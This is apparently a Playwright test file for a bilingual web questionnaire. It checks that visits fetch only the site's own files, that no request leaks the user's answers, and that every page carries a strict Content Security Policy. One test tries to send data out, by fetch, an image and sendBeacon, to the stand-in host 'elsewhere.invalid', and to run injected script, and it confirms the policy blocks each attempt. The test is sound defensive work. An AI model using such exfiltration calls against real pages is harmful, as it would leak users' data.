// No answer leaves the device: a server receives requests for the files of the site and nothing more.
import { readdirSync, readFileSync } from "node:fs";

import { answer, expect, open, openAll, press, reveal, expectText, section, test, type Page } from "./fixtures";
import { Recorder, SITE } from "./recorder";
import { OF_A_FIRM } from "./states";

/** What a visit loads: the page, the glue, the program, its edition, and then the other edition. */
const LOADED = [
  /^\/(en\/)?$/,
  /^\/zicha-[0-9a-f]{16}\.js$/,
  /^\/zicha-[0-9a-f]{16}\.wasm$/,
  /^\/zicha-[0-9a-f]{16}\.zh\.json$/,
  /^\/zicha-[0-9a-f]{16}\.en\.json$/,
];
/** What the browser may request additionally, for the tab and the home screen. */
const FURNITURE = /^\/((en\/)?manifest\.webmanifest|icon-\d+\.png|icon\.svg|favicon\.ico)$/;

async function visit(page: Page, url: string, language: "zh" | "en") {
  await page.goto(`${url}${language === "zh" ? "" : "en/"}?date=2021-09-10#route=junior-review`);
  await expect(page.locator("#app[data-started]")).toBeAttached();
  await answer(page, "status", "in-service");
  await answer(page, "workplace", "ruoqiang");
  await reveal(section(page, "defence"));
  await openAll(section(page, "defence"));
  await expectText(section(page, "defence"), language === "zh" ? "若羌" : "Ruoqiang");
  await press(section(page, "fee").locator("summary").first());
  await press(page.locator('[data-action="language"]'));
  await press(page.locator('[data-action="restart"]'));
}

for (const language of ["zh", "en"] as const) {
  test(`a visit requests its files and nothing else (${language})`, { tag: "@once" }, async ({ page }) => {
    const recorder = new Recorder();
    const url = await recorder.start();
    await visit(page, url, language);
    const requested = () => recorder.asked.map(({ path }) => path).filter((path) => !FURNITURE.test(path));
    // The other edition comes last.
    await expect.poll(() => requested().length).toBeGreaterThanOrEqual(LOADED.length);
    await recorder.stop();
    const paths = requested();
    // Each once, so preloaded files are the ones used.
    expect(paths.length, paths.join(" ")).toBe(LOADED.length);
    for (const expected of LOADED) expect(paths.filter((path) => expected.test(path))).toHaveLength(1);
    expect(recorder.asked.length).toBeLessThanOrEqual(5);
  });
}

test.describe("with the service worker", () => {
  test.use({ serviceWorkers: "allow" });
  test("a visit additionally requests the worker and what it caches, and no request holds an answer", { tag: "@once" }, async ({ page }) => {
    const recorder = new Recorder();
    const url = await recorder.start();
    await visit(page, url, "zh");
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await recorder.stop();
    const lists = [...readFileSync(`${SITE}/sw.js`, "utf8").matchAll(/const (?:PAGES|EXTRAS) = (\[.*\]);/g)];
    const named = lists.flatMap(([, list]) => JSON.parse(list) as string[]);
    const program = readdirSync(SITE).filter((name) => name.startsWith("zicha-"));
    const kept = [...named, ...program].map((name) => `/${name}`);
    expect(kept.length).toBeGreaterThan(10);
    for (const { method, path, all } of recorder.asked) {
      expect(["/sw.js", "/favicon.ico", ...kept]).toContain(path);
      expect(method).toBe("GET");
      expect(all).not.toMatch(/junior|in-service|ruoqiang|route=/);
    }
  });
});

test("the policy stops a page that tries to send data", { tag: "@once" }, async ({ page, log }) => {
  log.allow(/^console error: .*(Content Security Policy|Trusted ?Type|requires 'Trusted)|^failed request: http:\/\/elsewhere\.invalid|^request: http:\/\/elsewhere\.invalid|^console (warning|info)/);
  await open(page, { fragment: OF_A_FIRM });
  const stopped = await page.evaluate(async () => {
    const tries: [string, () => unknown][] = [
      ["fetch", () => fetch("http://elsewhere.invalid/", { mode: "no-cors" })],
      ["image", () => new Promise((_, failed) => { const image = new Image(); image.onerror = failed; image.src = "http://elsewhere.invalid/a.gif"; })],
      ["beacon", () => { if (!navigator.sendBeacon("http://elsewhere.invalid/", "a")) throw new Error("refused"); }],
      ["html", () => { document.createElement("p").innerHTML = "<b>a</b>"; }],
      ["script", () => { document.createElement("script").text = "a()"; }],
      ["text as a program", () => new Function("return 1")()],
      ["another policy", () => (window as never as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy("other", {})],
    ];
    const stopped: string[] = [];
    const violated = new Set<string>();
    document.addEventListener("securitypolicyviolation", (event) => violated.add(event.effectiveDirective));
    for (const [name, attempt] of tries) {
      try {
        await attempt();
      } catch {
        stopped.push(name);
      }
    }
    return [stopped, [...violated]];
  });
  expect(stopped[0]).toEqual(expect.arrayContaining(["fetch", "image", "html", "script", "text as a program", "another policy"]));
  // `sendBeacon` returns true and is blocked all the same.
  expect(stopped[1]).toContain("connect-src");
});

test("no page loads from another origin or has style attributes or inline handlers", { tag: "@once" }, () => {
  const pages = readdirSync(SITE, { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith(".html"));
  expect(pages).toHaveLength(9);
  for (const page of pages) {
    const html = readFileSync(`${SITE}/${page}`, "utf8").replace(/<script[\s\S]*?<\/script>/g, "");
    const loads = [...html.matchAll(/<(?!a\b)[a-z]+\b[^>]*?\s(?:src|href)="([^"]*)"/g)].map(([, address]) => address);
    for (const address of loads) expect(address, page).toMatch(/^(\.\.?\/|data:|#)/);
    expect(html, page).not.toMatch(/<[^>]+\s(style|on[a-z]+)=/);
    expect(html, page).toContain('http-equiv="Content-Security-Policy" content="default-src');
    expect(html, page).not.toContain("'unsafe-");
  }
});
